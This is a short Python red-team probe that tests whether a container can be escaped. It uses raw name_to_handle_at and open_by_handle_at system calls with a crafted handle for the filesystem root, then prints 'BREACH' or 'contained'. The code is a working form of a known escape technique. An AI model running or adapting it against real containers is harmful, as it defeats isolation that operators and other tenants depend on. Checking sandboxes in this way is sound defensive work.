# /// redteam
# category = "kernel"
# limits = { wall_s = 4.0 }
# ///
"""Opens files by their handle, the classic way out of a container with a shared disk."""

import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
MACHINE = platform.machine()


def call(x86_64, aarch64, *arguments):
    """Gives the result of a raw system call; -1 if it failed."""
    number = {"x86_64": x86_64, "aarch64": aarch64}[MACHINE]
    words = [a if not isinstance(a, int) else ctypes.c_long(a) for a in arguments]
    return libc.syscall(ctypes.c_long(number), *words)


handle = ctypes.create_string_buffer(136)
ctypes.memmove(handle, (ctypes.c_uint32 * 1)(128), 4)
mount_id = ctypes.c_int()
named = call(303, 264, -100, b"/", handle, ctypes.byref(mount_id), 0) == 0
root = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
opened = call(304, 265, -100, ctypes.byref(root), 0) >= 0
print("BREACH open_by_handle_at" if opened else "contained")
